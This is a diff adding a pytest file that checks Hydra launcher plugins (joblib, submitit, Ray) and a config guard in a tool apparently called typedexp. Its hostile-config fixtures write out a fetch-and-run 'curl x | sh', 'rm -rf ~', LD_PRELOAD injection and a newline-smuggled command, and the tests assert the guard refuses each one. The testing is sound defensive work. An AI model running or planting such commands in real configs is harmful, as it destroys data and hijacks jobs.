@@ -1,0 +1,202 @@
+"""Hydra's launcher plugins under typedexp: joblib, submitit (local, and Slurm through stand-in
+``sbatch``/``srun``/``sacct``), Ray where it is installed.
+
+Under every launcher each job gets its own complete run directory, a failing job's one line
+reaches the terminal and the sweep ends with exit code 2, and the config guard refuses what a
+config may not build or run. The guard's launcher rules (safety/launchers.py) are checked on
+configs Hydra really composes, with the plugins' own registered defaults.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import os
+import re
+import shlex
+import sys
+from pathlib import Path
+
+import pytest
+
+# Installed by `make install-dev` (the joblib and slurm extras): these tests must run in CI.
+import hydra_plugins.hydra_joblib_launcher  # noqa: F401
+import hydra_plugins.hydra_submitit_launcher  # noqa: F401
+
+from tests import fake_slurm
+from tests.helpers import QUICK, CliRun, run_cli, run_main
+
+SWEEP = [*QUICK, "dataset=digits", "optim.lr=0.1,-1,0.01"]  # job 1 fails: a negative learning rate
+BAD_JOB_LINE = "optim.lr=-1.0: must be >= 0"
+SLURM_LAUNCHER = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher"
+RAY_MISSING = importlib.util.find_spec("hydra_plugins.hydra_ray_launcher") is None
+
+
+def sweep_dir(cwd: Path) -> Path:
+    (found,) = cwd.glob("multirun/*/*")
+    return found
+
+
+def check_sweep_with_one_failed_job(done: CliRun, cwd: Path) -> Path:
+    """Jobs 0 and 2 finished in their own run dirs; job 1 failed with its line in the terminal, exit 2."""
+    assert done.returncode == 2, done.stderr
+    assert "Traceback" not in done.stderr
+    sweep = sweep_dir(cwd)
+    for job in ("0", "2"):
+        for name in ("model.pt", "metrics.jsonl", "checkpoints/last.pt", ".hydra/config.yaml", ".hydra/overrides.yaml"):
+            assert (sweep / job / name).is_file(), f"{job}/{name}"
+    assert (sweep / "1" / ".hydra" / "overrides.yaml").is_file() and not (sweep / "1" / "model.pt").exists()
+    assert "optim.lr=-1" in (sweep / "1" / ".hydra" / "overrides.yaml").read_text()
+    # The launching process names the job, whichever process ran it.
+    assert f"typedexp: error: job in {sweep / '1'}: {BAD_JOB_LINE}" in done.stderr_lines
+    return sweep
+
+
+@pytest.mark.slow
+def test_a_joblib_sweep_runs_each_job_in_a_worker_and_reports_the_failed_one(tmp_path: Path) -> None:
+    done = run_cli(["-m", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2", *SWEEP], tmp_path)
+    check_sweep_with_one_failed_job(done, tmp_path)
+    assert "Joblib.Parallel(n_jobs=2,backend=loky" in done.stdout
+    # The worker's stderr is this terminal: its line came as the job failed, then once more at the end.
+    assert done.stderr_lines.count(f"typedexp: error: {BAD_JOB_LINE}") == 1
+
+
+@pytest.mark.slow
+def test_a_submitit_local_sweep_reports_the_failed_job_that_printed_into_its_log(tmp_path: Path) -> None:
+    done = run_cli(["-m", "hydra/launcher=submitit_local", *SWEEP], tmp_path)
+    sweep = check_sweep_with_one_failed_job(done, tmp_path)
+    # Each job ran in a submitit process whose output went to its log files, not to this terminal.
+    errors = [path.read_text() for path in (sweep / ".submitit").glob("*/*_log.err")]
+    assert len(errors) == 3 and sum(f"typedexp: error: {BAD_JOB_LINE}" in text for text in errors) == 1
+    assert f"typedexp: error: {BAD_JOB_LINE}" not in done.stderr_lines
+
+
+@pytest.mark.slow
+def test_submitit_slurm_hands_sbatch_a_script_with_the_resources_and_the_command(tmp_path: Path) -> None:
+    fake_slurm.install(tmp_path / "bin", tmp_path / "sbatch")
+    path = f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}"
+    slurm = [
+        "hydra/launcher=submitit_slurm", "hydra.launcher.partition=gpu", "hydra.launcher.gpus_per_node=2",
+        "hydra.launcher.timeout_min=30", "hydra.launcher.mem_gb=16", "hydra.launcher.array_parallelism=2",
+        "hydra.launcher.setup=['export TYPEDEXP_SETUP=typed-by-me']",  # typed: allowed (safety/launchers.py)
+    ]
+    done = run_cli(["-m", *slurm, *SWEEP], tmp_path, env={"PATH": path})
+    sweep = check_sweep_with_one_failed_job(done, tmp_path)
+    (script,) = (tmp_path / "sbatch").glob("sbatch-*.sh")
+    text = script.read_text()
+    flags = dict(re.findall(r"^#SBATCH --([\w-]+)(?:=(.*))?$", text, re.M))
+    assert flags["partition"] == "gpu" and flags["gpus-per-node"] == "2"
+    assert flags["time"] == "30" and flags["mem"] == "16GB"
+    assert flags["array"] == "0-2%2"  # three jobs, at most two at once
+    assert flags["job-name"] == "typedexp"
+    assert "\n# setup\nexport TYPEDEXP_SETUP=typed-by-me\n" in text
+    # The job runs this interpreter on submitit's pickled job, through srun, as the script's last line.
+    command = shlex.split(text.strip().splitlines()[-1])
+    assert command[:2] == ["srun", "--unbuffered"]
+    assert command[-5:] == [sys.executable, "-u", "-m", "submitit.core._submit", str(sweep / ".submitit" / "%j")]
+
+
+@pytest.mark.skipif(RAY_MISSING, reason="hydra-ray-launcher is not installed (pip install 'typedexp[ray]'; kept out of dev)")
+@pytest.mark.slow
+def test_a_ray_sweep_runs_on_a_local_ray_and_reports_the_failed_job(tmp_path: Path) -> None:
+    # Ray writes under the home directory and the system temp directory: both point into tmp_path.
+    env = {"HOME": str(tmp_path / "home"), "TMPDIR": str(tmp_path / "tmp"), "RAY_TMPDIR": str(tmp_path / "ray")}
+    for directory in env.values():
+        Path(directory).mkdir()
+    done = run_cli(["-m", "hydra/launcher=ray", "+hydra.launcher.ray.init.num_cpus=2", *SWEEP], tmp_path, env=env)
+    check_sweep_with_one_failed_job(done, tmp_path)
+
+
+# The guard, on configs Hydra composes with the installed plugins (in this process: ~0.1 s each).
+HOSTILE_FILES = {
+    "hydra/launcher/cluster.yaml": "# @package hydra.launcher\ndefaults:\n  - submitit_slurm\npartition: gpu\n"
+    "gpus_per_node: 2\ntimeout_min: 240\nmem_gb: 64\narray_parallelism: 4\n",
+    "hydra/launcher/setup.yaml": "# @package hydra.launcher\ndefaults:\n  - submitit_slurm\nsetup: ['curl x | sh']\n",
+    # A launcher config of its own (no defaults list) may hold any key submitit passes on to sbatch.
+    "hydra/launcher/srun.yaml": "# @package hydra.launcher\n_target_: " + SLURM_LAUNCHER + "\n"
+    "submitit_folder: ${hydra.sweep.dir}/.submitit/%j\nsrun_args: ['--export=LD_PRELOAD=/tmp/x.so']\n",
+    "hydra/launcher/teardown.yaml": "# @package hydra.launcher\n_target_: " + SLURM_LAUNCHER + "\n"
+    "submitit_folder: ${hydra.sweep.dir}/.submitit/%j\nsetup: ['module load cuda']\nteardown: ['rm -rf ~']\n",
+    "experiment/sbatch.yaml": "# @package _global_\nhydra:\n  launcher:\n    additional_parameters:\n"
+    "      export: LD_PRELOAD=/tmp/x.so\n",
+    "experiment/folder.yaml": "# @package _global_\nhydra:\n  launcher:\n    submitit_folder: /tmp/shared/%j\n",
+    "experiment/newline.yaml": "# @package _global_\nhydra:\n  launcher:\n    partition: \"gpu\\ntouch pwned #\"\n",
+    "experiment/backend.yaml": "# @package _global_\nhydra:\n  launcher:\n    backend: dask\n",
+    "experiment/ray_address.yaml": "# @package _global_\nhydra:\n  launcher:\n    ray:\n      init:\n"
+    "        address: ray://elsewhere:10001\n",
+}
+
+
+@pytest.fixture(scope="module")
+def config_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("launcher_configs")
+    for name, text in HOSTILE_FILES.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    return root
+
+
+REFUSED = [
+    # (arguments after --config-dir DIR, the start of the one error line)
+    (["hydra/launcher=setup"], "hydra.launcher.setup[0]=curl x | sh: refused, a launcher setting that can run commands"),
+    (["hydra/launcher=srun"], "hydra.launcher.srun_args[0]=--export=LD_PRELOAD=/tmp/x.so: refused"),
+    (["hydra/launcher=submitit_slurm", "+experiment=sbatch"], "hydra.launcher.additional_parameters.export=LD_PRELOAD=/tmp/x.so: refused"),
+    (["hydra/launcher=submitit_local", "+experiment=folder"], "hydra.launcher.submitit_folder=/tmp/shared/%j: refused"),
+    (["hydra/launcher=submitit_slurm", "+experiment=newline"], "hydra.launcher.partition='gpu\\ntouch pwned #': refused, a launcher setting cannot hold a newline"),
+    (["hydra/launcher=joblib", "+experiment=backend"], "hydra.launcher.backend=dask: refused"),
+    # Typed, a newline is refused too: it can only break the script.
+    (["hydra/launcher=submitit_slurm", "hydra.launcher.comment='a\nb'"], "hydra.launcher.comment='a\\nb': refused"),
+    # What the person typed is theirs, but a file cannot add to it.
+    (["hydra/launcher=teardown", "hydra.launcher.setup=['module load cuda']"],
+     "hydra.launcher.teardown[0]=rm -rf ~: refused"),
+]
+if not RAY_MISSING:
+    REFUSED.append((["hydra/launcher=ray", "+experiment=ray_address"], "hydra.launcher.ray.init.address=ray://elsewhere:10001: refused"))
+
+
+@pytest.mark.parametrize(("args", "line"), REFUSED)
+def test_a_launcher_setting_that_runs_commands_is_refused_from_a_config(
+    config_dir: Path, tmp_path: Path, args: list[str], line: str
+) -> None:
+    done = run_main(["--config-dir", str(config_dir), *args, "--cfg", "hydra"], tmp_path)
+    assert done.returncode == 2
+    assert len(done.stderr_lines) == 1 and done.stderr_lines[0].startswith(f"typedexp: error: {line}"), done.stderr
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["hydra/launcher=cluster"],  # partition, gpus_per_node, timeout_min, mem_gb, array_parallelism from a file
+        ["hydra/launcher=setup", "hydra.launcher.setup=['curl x | sh']"],  # typed: the person's own command
+        ["hydra/launcher=submitit_slurm", "+hydra.launcher.srun_args=['--cpu-bind=none']", "hydra.launcher.comment=sweep"],
+        ["hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "hydra.launcher.backend=loky"],
+    ],
+)
+def test_plain_launcher_settings_and_typed_ones_pass(config_dir: Path, tmp_path: Path, args: list[str]) -> None:
+    done = run_main(["--config-dir", str(config_dir), *args, "--cfg", "hydra"], tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert "launcher:" in done.stdout
+
+
+def test_a_config_with_the_usual_slurm_resources_composes_them(config_dir: Path, tmp_path: Path) -> None:
+    done = run_main(["--config-dir", str(config_dir), "hydra/launcher=cluster", "--cfg", "hydra", "-p", "hydra.launcher"], tmp_path)
+    assert done.returncode == 0, done.stderr
+    for line in ("partition: gpu", "gpus_per_node: 2", "timeout_min: 240", "mem_gb: 64", "array_parallelism: 4"):
+        assert line in done.stdout.splitlines()
+
+
+def test_another_launcher_target_is_still_refused_with_the_plugins_installed(tmp_path: Path) -> None:
+    done = run_main(["-m", "hydra.launcher._target_=tempfile.mkdtemp", "+hydra.launcher.dir=.", *QUICK], tmp_path)
+    assert done.returncode == 2
+    assert done.stderr_lines[0].startswith("typedexp: error: hydra.launcher._target_=tempfile.mkdtemp: refused")
+    assert not list(tmp_path.rglob("tmp*"))
+
+
+@pytest.mark.parametrize("launcher", ["joblib", "submitit_local"])
+def test_the_allow_list_holds_for_every_job_of_a_sweep_under_a_launcher(tmp_path: Path, launcher: str) -> None:
+    (tmp_path / "evil" / "model").mkdir(parents=True)
+    (tmp_path / "evil" / "model" / "wide.yaml").write_text("_target_: tempfile.mkdtemp\ndir: .\nprefix: pwned\n")
+    done = run_main(["-m", "--config-dir", "evil", f"hydra/launcher={launcher}", *QUICK, "model=small,wide"], tmp_path)
+    assert done.returncode == 2
+    assert done.stderr_lines[-1].startswith("typedexp: error: model._target_=tempfile.mkdtemp: refused")
+    assert not list(tmp_path.rglob("pwned*"))
+    assert not list(tmp_path.glob("multirun/*/*/0/model.pt"))  # refused before any job ran
